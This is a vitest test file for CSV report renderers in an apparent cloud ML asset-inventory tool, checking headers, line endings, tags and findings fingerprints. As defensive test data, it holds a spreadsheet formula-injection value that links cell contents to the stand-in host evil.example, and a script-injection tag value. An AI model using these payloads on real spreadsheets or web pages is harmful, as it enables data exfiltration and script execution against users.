import { describe, expect, it } from 'vitest';
import { CSV_HEADER, renderCsv } from '../../src/report/csv.js';
import { renderFindingsCsv } from '../../src/report/findings-csv.js';
import { HOSTILE_NAME, sampleResult } from './sample-result.js';

/** A small RFC 4180 reader, so the test checks what a spreadsheet would see. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(field), (field = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
    else field += c;
  }
  return rows;
}

describe('CSV inventory', () => {
  const result = sampleResult();
  result.inventory.assets[1]!.name = '=HYPERLINK("http://evil.example/?"&A1,"x")';
  result.inventory.assets[1]!.tags = { note: 'a,b\r\nc' };
  const text = [...renderCsv(result)].join('');
  const rows = parseCsv(text);
  const byId = new Map(rows.slice(1).map((r) => [r[0], Object.fromEntries(CSV_HEADER.map((h, i) => [h, r[i]]))]));

  it('has a header, one row per asset and CRLF line ends', () => {
    expect(rows[0]).toEqual(CSV_HEADER);
    expect(rows).toHaveLength(4);
    expect(rows.every((r) => r.length === CSV_HEADER.length)).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('writes tags as key=value pairs, key facts, and failing counts', () => {
    const workspace = byId.get('/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg-ml/providers/Microsoft.MachineLearningServices/workspaces/ws-prod')!;
    expect(workspace).toMatchObject({
      kind: 'workspace',
      provider: 'azure',
      name: HOSTILE_NAME,
      tags: 'environment=prod;owner=<script>window.__pwned=1</script>',
      publicNetworkAccess: 'true',
      encryption: 'platform',
      loggingEnabled: 'false',
      versioning: '',
      failingFindings: '1',
    });
    // error and unknown findings are not failures.
    expect(byId.get('arn:aws:s3:::training-data-raw')!.failingFindings).toBe('0');
  });

  it('neutralises formula injection and keeps embedded line breaks inside one field', () => {
    const endpoint = byId.get('arn:aws:sagemaker:eu-west-1:111122223333:endpoint/fraud-scoring')!;
    expect(endpoint.name).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"x")`);
    expect(endpoint.tags).toBe('note=a,b\nc'); // CRLF inside a cell is written as LF
  });
});

describe('findings CSV', () => {
  it('gives each finding row its full fingerprint', () => {
    const result = sampleResult();
    const [header, ...rows] = parseCsv([...renderFindingsCsv(result)].join(''));
    const column = header!.indexOf('fingerprint');
    expect(column).toBeGreaterThan(-1);
    const listed = result.findings.filter((f) => f.status !== 'pass' && f.status !== 'not_applicable');
    expect(rows).toHaveLength(listed.length);
    expect(rows.map((r) => r[column]).sort()).toEqual(listed.map((f) => f.fingerprint).sort());
  });
});
